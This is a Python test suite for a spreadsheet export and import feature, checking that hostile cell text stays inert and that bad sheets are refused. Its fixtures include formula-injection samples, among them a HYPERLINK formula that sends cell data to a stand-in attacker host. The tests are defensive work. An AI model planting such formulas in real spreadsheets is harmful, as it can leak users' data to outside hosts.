"""Workshop sheets both ways: hostile text stays text, and an import never loses data silently."""
from __future__ import annotations

import csv
import shutil

import pytest
from openpyxl import Workbook, load_workbook

from assessment import workshop
from assessment.cells import TRIGGERS
from assessment.checklist import load_checklist
from assessment.engagement import save
from assessment.errors import InvalidInput
from assessment.yamlio import read_yaml
from conftest import EXAMPLES

SRC = EXAMPLES / "harbour-lane-bank" / "engagement.yaml"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1 line ordered", "-2 sites late",
           "@SUM(A1:A9)", "\tindented", "'quoted by the client", "'=already guarded", "=1+1"]
CR_NOTE = "\rstarts with a carriage return"


@pytest.fixture
def eng(tmp_path):
    path = tmp_path / "harbour" / "engagement.yaml"
    path.parent.mkdir()
    shutil.copy(SRC, path)
    return path


def answers(eng) -> dict:
    doc, _ = read_yaml(eng)
    return {k: dict(v) for k, v in doc["checklist"].items()}


def set_notes(eng, notes: dict[str, str]) -> None:
    doc, _ = read_yaml(eng)
    for item_id, text in notes.items():
        doc["checklist"][item_id]["notes"] = text
    save(eng, doc, load_checklist())


def write_sheet(path, rows: list[list]) -> None:
    """A sheet as a client's tool would write it: plain values, no guarding (so "=..." is a formula in xlsx)."""
    if path.suffix == ".xlsx":
        wb = Workbook()
        wb.active.title = "technology"
        for row in rows:
            wb.active.append(row)
        wb.save(path)
    else:
        with path.open("w", newline="", encoding="utf-8") as fh:
            csv.writer(fh).writerows(rows)


def problems_of(exc) -> list:
    return exc.value.errors


# --------------------------------------------------------------------------- export: text stays text
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_hostile_notes_are_exported_as_text_and_read_back_unchanged(eng, tmp_path, suffix):
    notes = {f"TEC-{n:02d}": text for n, text in enumerate(HOSTILE, start=1)}
    if suffix == ".csv":
        notes["TEC-09"] = CR_NOTE             # an .xlsx without lxml cannot keep a CR: see the next test
    set_notes(eng, notes)
    sheet = tmp_path / f"technology{suffix}"
    workshop.export_sheet(eng, "technology", sheet)
    if suffix == ".xlsx":
        ws = load_workbook(sheet).active
        cells = [c for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]           # no formula cells at all
        assert ws["G2"].value == HOSTILE[0] and ws["G2"].quotePrefix
    else:
        with sheet.open(newline="", encoding="utf-8") as fh:
            fields = [f for row in csv.reader(fh) for f in row]
        assert not [f for f in fields if f.startswith(TRIGGERS)]                  # nothing a spreadsheet runs
        assert "'" + HOSTILE[0] in fields
    set_notes(eng, dict.fromkeys(notes, "overwritten"))
    result = workshop.merge_sheet(eng, sheet)
    assert result.count == len(notes)
    after = answers(eng)
    assert {k: after[k]["notes"] for k in notes} == notes                     # exactly as they were


def test_carriage_return_survives_xlsx(eng, tmp_path):
    set_notes(eng, {"TEC-01": CR_NOTE})
    sheet = tmp_path / "technology.xlsx"
    workshop.export_sheet(eng, "technology", sheet)
    assert workshop.merge_sheet(eng, sheet).count == 0


def test_reimporting_an_unchanged_export_changes_and_writes_nothing(eng, tmp_path):
    sheet = tmp_path / "technology.xlsx"
    workshop.export_sheet(eng, "technology", sheet)
    before = eng.read_bytes()
    result = workshop.merge_sheet(eng, sheet)
    assert result.count == 0 and result.backup is None and "no item changed" in str(result)
    assert eng.read_bytes() == before and not (eng.parent / ".backups").exists()


# --------------------------------------------------------------------------- import: headers
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_headers_match_whatever_their_case_and_spacing(eng, tmp_path, suffix):
    sheet = tmp_path / f"technology{suffix}"
    write_sheet(sheet, [[" ID", "As Is", "TO-BE", "Confidence ", "Notes", "Evidence"],
                        ["TEC-01", 1, 4, "Observed", "Lines ordered", "Carrier email"]])
    workshop.import_sheet(eng, sheet)
    a = answers(eng)["TEC-01"]
    assert (a["as_is"], a["to_be"], a["confidence"], a["notes"], a["evidence"]) == (
        1, 4, "observed", "Lines ordered", "Carrier email")


def test_an_unknown_column_is_refused_not_ignored(eng, tmp_path):
    sheet = tmp_path / "technology.csv"
    write_sheet(sheet, [["id", "as_is", "to_be", "Comments"], ["TEC-01", "1", "4", "would be lost"]])
    before = eng.read_bytes()
    with pytest.raises(InvalidInput) as exc:
        workshop.import_sheet(eng, sheet)
    [p] = problems_of(exc)
    assert p.line == 1 and "column D" in p.field and "Comments" in p.found
    assert eng.read_bytes() == before


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_column_the_sheet_does_not_carry_is_left_alone(eng, tmp_path, suffix):
    before = answers(eng)
    sheet = tmp_path / f"technology{suffix}"
    write_sheet(sheet, [["id", "as_is", "to_be"], ["TEC-01", 1, 4], ["TEC-02", 1, 4]])   # TEC-02 as it is
    workshop.import_sheet(eng, sheet)
    after = answers(eng)
    assert after["TEC-01"]["as_is"] == 1 and after["TEC-02"]["as_is"] == 1
    for item_id in ("TEC-01", "TEC-02"):
        for key in ("notes", "evidence", "confidence"):
            assert after[item_id][key] == before[item_id][key]
    assert after["TEC-01"]["notes"].startswith("Carrier order for the Belfast lines")


# --------------------------------------------------------------------------- import: cells and rows
def test_merged_cells_are_reported_with_sheet_row_and_column(eng, tmp_path):
    sheet = tmp_path / "technology.xlsx"
    workshop.export_sheet(eng, "technology", sheet)
    wb = load_workbook(sheet)
    wb.active.merge_cells("E3:E4")                  # to_be of TEC-02 and TEC-03
    wb.save(sheet)
    before = eng.read_bytes()
    with pytest.raises(InvalidInput) as exc:
        workshop.import_sheet(eng, sheet)
    [p] = problems_of(exc)
    assert "technology.xlsx" in p.file and "'technology'" in p.file                 # the sheet
    assert p.line == 3 and p.field == "column E (to_be)" and "E3:E4" in p.found and "merged" in p.expected
    assert eng.read_bytes() == before


def test_formula_cells_are_reported_not_read_as_blank(eng, tmp_path):
    sheet = tmp_path / "technology.xlsx"
    workshop.export_sheet(eng, "technology", sheet)
    wb = load_workbook(sheet)
    wb.active["D4"] = "=1+1"                        # as_is of TEC-03, typed as a formula
    wb.active["G5"] = '=HYPERLINK("http://x/"&A1,"Click")'
    wb.save(sheet)
    before = eng.read_bytes()
    with pytest.raises(InvalidInput) as exc:
        workshop.import_sheet(eng, sheet)
    found = {(p.line, p.field): p for p in problems_of(exc)}
    assert set(found) == {(4, "column D (as_is)"), (5, "column G (notes)")}
    assert "=1+1" in found[4, "column D (as_is)"].found and "formula" in found[4, "column D (as_is)"].expected
    assert all("'technology'" in p.file for p in found.values())
    assert eng.read_bytes() == before


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_duplicate_and_unknown_ids_are_all_reported_and_nothing_written(eng, tmp_path, suffix):
    sheet = tmp_path / f"technology{suffix}"
    write_sheet(sheet, [["id", "as_is", "to_be", "notes"],
                        ["TEC-01", 1, 4, "first"],
                        ["TEC-02", 1, 4, "fine"],
                        ["TEC-01", 2, 4, "second"],
                        ["XXX-01", 1, 2, ""]])
    before = eng.read_bytes()
    with pytest.raises(InvalidInput) as exc:
        workshop.import_sheet(eng, sheet)
    found = {(p.line, p.field): p for p in problems_of(exc)}
    assert set(found) == {(4, "column A (id)"), (5, "column A (id)")}
    assert "first on row 2" in found[4, "column A (id)"].found
    assert "XXX-01" in found[5, "column A (id)"].found
    assert eng.read_bytes() == before


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_blank_rows_are_ignored(eng, tmp_path, suffix):
    sheet = tmp_path / f"technology{suffix}"
    write_sheet(sheet, [["id", "as_is", "to_be"], ["TEC-01", 1, 4], [None, None, None], ["TEC-02", 0, 4],
                        ["", " ", ""], [None, "", None], ["", "", ""]])
    workshop.import_sheet(eng, sheet)
    after = answers(eng)
    assert (after["TEC-01"]["as_is"], after["TEC-02"]["as_is"]) == (1, 0)
    assert workshop.merge_sheet(eng, sheet).count == 0          # and again: nothing left to change


def test_a_csv_renamed_xlsx_is_refused_with_our_error(eng, tmp_path):
    sheet = tmp_path / "technology.xlsx"
    sheet.write_text("id,as_is,to_be\nTEC-01,1,4\n", encoding="utf-8")
    with pytest.raises(InvalidInput) as exc:
        workshop.import_sheet(eng, sheet)
    assert "not a workbook" in str(exc.value)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_superscript_digit_is_a_problem_not_a_crash(eng, tmp_path, suffix):
    sheet = tmp_path / f"technology{suffix}"
    write_sheet(sheet, [["id", "as_is", "to_be"], ["TEC-01", "²", 4]])
    with pytest.raises(InvalidInput) as exc:
        workshop.import_sheet(eng, sheet)
    [p] = problems_of(exc)
    assert p.line == 2 and p.field == "TEC-01.as_is (column B)" and "²" in p.found


def test_a_csv_that_is_not_utf8_is_refused_with_our_error(eng, tmp_path):
    sheet = tmp_path / "technology.csv"
    sheet.write_bytes("id,as_is,to_be,notes\nTEC-01,1,4,Révisé\n".encode("latin-1"))
    with pytest.raises(InvalidInput) as exc:
        workshop.import_sheet(eng, sheet)
    assert "UTF-8" in str(exc.value)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_over_long_sheet_is_refused_before_it_is_loaded(eng, tmp_path, monkeypatch, suffix):
    import openpyxl

    monkeypatch.setattr(workshop, "MAX_SHEET_ROWS", 10)
    sheet = tmp_path / f"technology{suffix}"
    write_sheet(sheet, [["id", "as_is", "to_be"]] + [["TEC-01", 1, 4]] * 30)
    opened = []
    real = openpyxl.load_workbook

    def spy(*args, **kwargs):
        opened.append(kwargs.get("read_only", False))
        return real(*args, **kwargs)

    monkeypatch.setattr(openpyxl, "load_workbook", spy)
    with pytest.raises(InvalidInput) as exc:
        workshop.import_sheet(eng, sheet)
    assert "at most 10 rows" in str(exc.value)
    assert all(opened)                               # only ever opened read-only, never loaded whole


# --------------------------------------------------------------------------- the summary
def test_summary_counts_the_items_that_changed(eng, tmp_path):
    sheet = tmp_path / "technology.csv"
    workshop.export_sheet(eng, "technology", sheet)
    with sheet.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    rows[0]["as_is"] = "1"                          # TEC-01
    rows[2]["notes"] = "Feed now alerts on failure"  # TEC-03
    rows[3]["notes"] = ""                            # TEC-04: already empty, no change
    with sheet.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=workshop.SHEET_COLUMNS)
        w.writeheader()
        w.writerows(rows)
    result = workshop.merge_sheet(eng, sheet)
    assert result.count == 2 and result.changed == ("TEC-01", "TEC-03")
    assert "2 items changed" in str(result) and result.backup is not None and result.backup.exists()


def test_an_unclosed_quote_is_refused_not_read_as_one_long_note(eng, tmp_path):
    sheet = tmp_path / "technology.csv"
    sheet.write_text('id,as_is,to_be,notes\nTEC-01,1,4,"never closed\nTEC-02,1,4,fine\n', encoding="utf-8")
    before = eng.read_bytes()
    with pytest.raises(InvalidInput) as exc:
        workshop.import_sheet(eng, sheet)
    assert "well-formed CSV" in str(exc.value)
    assert eng.read_bytes() == before


def test_a_note_xlsx_cannot_hold_is_reported_not_a_crash(eng, tmp_path):
    set_notes(eng, {"TEC-02": "pasted from Word\x0bsecond line"})
    with pytest.raises(InvalidInput) as exc:
        workshop.export_sheet(eng, "technology", tmp_path / "technology.xlsx")
    assert "checklist.TEC-02.notes" in str(exc.value) and not (tmp_path / "technology.xlsx").exists()
    workshop.export_sheet(eng, "technology", tmp_path / "technology.csv")          # CSV holds it
    assert workshop.merge_sheet(eng, tmp_path / "technology.csv").count == 0
